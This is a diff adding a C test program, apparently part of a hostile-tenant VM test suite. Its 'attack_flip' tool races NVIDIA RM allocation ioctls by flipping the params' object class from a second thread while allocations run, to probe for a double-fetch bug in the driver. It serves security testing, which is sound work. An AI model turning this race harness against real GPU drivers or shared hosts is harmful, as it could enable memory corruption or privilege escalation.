@@ -1,0 +1,117 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * A hostile tenant's race on its own ioctl params (tests/vm/hostile).
+ *
+ *   attack_flip FD CLIENT PARENT SIZE CLASS_A CLASS_B MIN_S MAX_S ATTEMPTS [xfer]
+ *
+ * One thread allocates with NV_ESC_RM_ALLOC (NVOS21, or wrapped in
+ * IOCTL_XFER_CMD) objects of class CLASS_A with NV_MEMORY_ALLOCATION_PARAMS
+ * of SIZE bytes, under fresh handles, and keeps what it gets; another thread
+ * flips the params' hClass between CLASS_A and CLASS_B as fast as it can.
+ * It runs for at least MIN_S seconds and ATTEMPTS calls (at most MAX_S s),
+ * then prints "attempts N ok N flips N".
+ */
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <time.h>
+
+#define NV_IOCTL_MAGIC		'F'
+#define NV_ESC_RM_ALLOC		0x2B
+#define NV_ESC_IOCTL_XFER_CMD	211
+
+struct nvos21 {
+	uint32_t h_root, h_parent, h_new, h_class;
+	uint64_t p_alloc_parms;
+	uint32_t params_size, status;
+};
+
+struct xfer {
+	uint32_t cmd, size;
+	uint64_t ptr;
+};
+
+static struct nvos21 params;
+static atomic_int stop;
+static uint32_t class_a, class_b;
+
+static void *flipper(void *arg)
+{
+	volatile uint32_t *h_class = &params.h_class;
+	unsigned long *flips = arg;
+
+	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
+		*h_class = class_b;
+		*h_class = class_a;
+		(*flips)++;
+	}
+	return NULL;
+}
+
+static double now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+int main(int argc, char **argv)
+{
+	unsigned char mem[128] __attribute__((aligned(8)));
+	unsigned long attempts = 0, ok = 0, flips = 0, want;
+	double start, min_s, max_s;
+	struct xfer x;
+	int fd, use_xfer;
+	unsigned long cmd;
+	pthread_t t;
+	void *arg;
+
+	if (argc < 10)
+		return 2;
+	fd = atoi(argv[1]);
+	class_a = strtoul(argv[5], NULL, 0);
+	class_b = strtoul(argv[6], NULL, 0);
+	min_s = atof(argv[7]);
+	max_s = atof(argv[8]);
+	want = strtoul(argv[9], NULL, 0);
+	use_xfer = argc > 10 && !strcmp(argv[10], "xfer");
+
+	memset(mem, 0, sizeof(mem));
+	params.h_root = strtoul(argv[2], NULL, 0);
+	params.h_parent = strtoul(argv[3], NULL, 0);
+	params.h_class = class_a;
+	params.p_alloc_parms = (uintptr_t)mem;
+	params.params_size = sizeof(mem);
+	x.cmd = NV_ESC_RM_ALLOC;
+	x.size = sizeof(params);
+	x.ptr = (uintptr_t)&params;
+	cmd = use_xfer ? _IOWR(NV_IOCTL_MAGIC, NV_ESC_IOCTL_XFER_CMD, struct xfer) :
+			 _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_ALLOC, struct nvos21);
+	arg = use_xfer ? (void *)&x : (void *)&params;
+
+	if (pthread_create(&t, NULL, flipper, &flips))
+		return 1;
+	start = now();
+	for (;;) {
+		double el = now() - start;
+
+		if (el >= max_s || (el >= min_s && attempts >= want))
+			break;
+		/* NV_MEMORY_ALLOCATION_PARAMS.size, at 64. */
+		*(uint64_t *)(mem + 64) = strtoull(argv[4], NULL, 0);
+		params.h_new = 0xA0000000u + attempts;
+		params.status = 0xffffffffu;
+		attempts++;
+		if (!ioctl(fd, cmd, arg) && params.status == 0)
+			ok++;
+	}
+	atomic_store(&stop, 1);
+	pthread_join(t, NULL);
+	printf("attempts %lu ok %lu flips %lu\n", attempts, ok, flips);
+	return 0;
+}
